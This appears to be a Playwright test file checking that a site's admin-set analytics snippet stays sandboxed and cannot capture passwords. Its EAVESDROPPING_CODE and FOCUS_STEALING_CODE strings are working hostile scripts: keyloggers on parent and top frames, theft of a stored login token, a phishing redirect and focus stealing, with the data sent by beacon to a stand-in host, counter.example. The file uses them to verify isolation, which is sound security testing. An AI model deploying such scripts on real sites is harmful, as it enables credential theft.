import type { Page } from 'playwright-core';
import { afterAll, expect, test } from 'vitest';
import { createAdminApi } from './admin-api.ts';
import { eventually, waitForHydration } from './page-helpers.ts';
import { startTestSite } from './support/site.ts';
import { newAccount } from './test-accounts.ts';

const site = await startTestSite();
const { visit, visitAs, address } = site;
const adminApi = createAdminApi(site);
const setSnippet = (snippet: string) => adminApi.setSettings({ 'system.analytics': snippet });
afterAll(() => setSnippet(''));

/** Records the requests that the snippet sends to its host. */
async function collectBeacons(page: Page) {
  const beacons: string[] = [];
  await page.context().route('https://counter.example/**', async (route) => {
    const url = new URL(route.request().url());
    if (url.pathname === '/external.js')
      return route.fulfill({
        contentType: 'text/javascript',
        body: `new Image().src = 'https://counter.example/beacon?external-' + document.currentScript.dataset.id;`,
      });
    beacons.push(decodeURIComponent(url.search.slice(1)));
    return route.fulfill({ status: 200, contentType: 'image/gif', body: '' });
  });
  return beacons;
}

/** Returns null when no analytics frame is open. */
async function readSnippetState(page: Page) {
  const frame = page.frames().find((candidate) => candidate.url().startsWith(`${address}/analytics/`));
  if (!frame) return null;
  return frame.evaluate(() => {
    const { runs = 0, _hmt = [] } = window as { runs?: number; _hmt?: string[][] };
    return { runs, pages: _hmt.map(([, path]) => path) };
  });
}

test('the analytics script runs once on the first public page and then records each path', async () => {
  await setSnippet('<script>window.runs = (window.runs || 0) + 1; window._hmt = [];</script>');
  const page = await visit('/login');
  expect(await readSnippetState(page)).toBeNull();
  await page.getByRole('banner').getByRole('link', { name: '首页' }).click();
  await eventually(() => readSnippetState(page)).toEqual({ runs: 1, pages: [] });
  await page.getByRole('banner').getByRole('link', { name: '学术论文' }).click();
  await page.waitForURL('**/category/*');
  const { pathname } = new URL(page.url());
  await eventually(() => readSnippetState(page)).toEqual({ runs: 1, pages: [pathname] });
  await page.getByRole('banner').getByRole('link', { name: '登录' }).click();
  await page.waitForURL(`${address}/login?redirect=${encodeURIComponent(pathname)}`);
  await eventually(() => readSnippetState(page)).toBeNull();
});

test('an analytics script with an external source runs, with its attributes, beside inline code', async () => {
  await setSnippet(
    `<script async src="https://counter.example/external.js" data-id="7"></script>
     <script>
       document.cookie = 'a=1; path=/';
       localStorage.setItem('b', '2');
       new Image().src = 'https://counter.example/beacon?inline-' + document.cookie + localStorage.getItem('b');
     </script>`,
  );
  const page = await visit('about:blank');
  const beacons = await collectBeacons(page);
  await page.goto('/');
  await eventually(() => [...beacons].sort()).toEqual(['external-7', 'inline-a=12']);
});

/** Tries every way in which a script on the page could read a password or token. */
const EAVESDROPPING_CODE = `
  const send = (text) => {
    const image = new Image();
    image.src = 'https://counter.example/beacon?' + encodeURIComponent(text);
    return image;
  };
  const listen = (target, name) => {
    for (const type of ['keydown', 'keypress', 'input', 'change', 'paste'])
      target.addEventListener(type, (event) => send(name + ':' + (event.key ?? '') + (event.target.value ?? '')), true);
  };
  for (const [name, find] of [
    ['parent', () => parent.document], ['top', () => top], ['opener', () => opener.document],
    ['sibling', () => parent.frames[1].document], ['self', () => window],
  ])
    try { listen(find(), name); } catch { send('refused:' + name); }
  try { send('token:' + parent.localStorage.getItem('douku:user')); } catch { send('refused:storage'); }
  try { top.location = '/analytics/phishing'; } catch { send('refused:navigation'); }
  try { if (window.open('/login') === null) send('refused:popup'); } catch { send('refused:popup'); }
  const started = send('started');`;
/** Waits for the first beacon, because the page closes the frame as soon as the frame takes the focus. */
const FOCUS_STEALING_CODE = `
  const input = document.createElement('input');
  document.documentElement.append(input);
  const takeFocus = () => setInterval(() => { window.focus(); input.focus(); }, 5);
  started.onload = started.onerror = takeFocus;`;

const SECRET = 'sesame-open-4711';

test.each([
  ['reads the page', 'page-reader', EAVESDROPPING_CODE],
  ['takes the keyboard focus', 'focus-taker', EAVESDROPPING_CODE + FOCUS_STEALING_CODE],
])('an analytics script that %s captures no password typed in a dialog or on any page', async (_, name, code) => {
  await setSnippet(`<script>${code}</script>`);
  const account = await newAccount(site, name);
  const page = await visitAs(await account.logIn(), 'about:blank');
  const beacons = await collectBeacons(page);
  const typeSecretInto = async (field: ReturnType<Page['getByLabel']>) => {
    await field.click();
    await page.keyboard.type(SECRET, { delay: 10 });
    expect(await field.inputValue()).toBe(SECRET);
  };
  await page.goto(`/user/${account.id}`);
  await waitForHydration(page);
  await eventually(() => beacons).toContain('started');
  await page.getByRole('main').getByRole('button', { name: '个人资料' }).click();
  const dialog = page.getByRole('dialog', { name: '个人资料' });
  await dialog.getByRole('tab', { name: '修改密码' }).click();
  for (const label of ['原密码', '新密码', '确认密码']) await typeSecretInto(dialog.getByLabel(label, { exact: true }));
  await dialog.getByRole('tab', { name: '修改资料' }).click();
  await dialog.getByLabel('联系邮箱').fill('other@mail.example');
  await typeSecretInto(dialog.getByLabel('登录密码'));
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  await page.getByRole('link', { name: '账户安全' }).click();
  await page.waitForURL('**/security');
  await page.getByRole('button', { name: '开启两步验证' }).click();
  await typeSecretInto(page.locator('input[type=password]').first());

  const visitorPage = await visit('about:blank');
  const visitorBeacons = await collectBeacons(visitorPage);
  await visitorPage.goto('/');
  await eventually(() => visitorBeacons).toContain('started');
  const typeVisitorSecret = async () => {
    const field = visitorPage.locator('input[type=password]').first();
    await field.click();
    await visitorPage.keyboard.type(SECRET, { delay: 10 });
    expect(await field.inputValue()).toBe(SECRET);
  };
  await visitorPage.getByRole('banner').getByRole('link', { name: '登录' }).click();
  await typeVisitorSecret();
  await visitorPage.getByRole('main').getByRole('link', { name: '注册' }).click();
  await visitorPage.waitForURL('**/register');
  await typeVisitorSecret();
  const leakedTexts = [...beacons, ...visitorBeacons].filter((text) => !/^(refused:|started$)/.test(text));
  expect(leakedTexts).toEqual([]);
});

test('the document of the analytics script stays isolated when it is opened outside of a frame', async () => {
  await setSnippet(
    `<script>try { window.result = parent.origin + parent.document.URL; } catch (error) { window.result = String(error); }</script>`,
  );
  const page = await visit('/analytics/');
  expect(await page.evaluate(() => window.origin)).toBe('null');
});
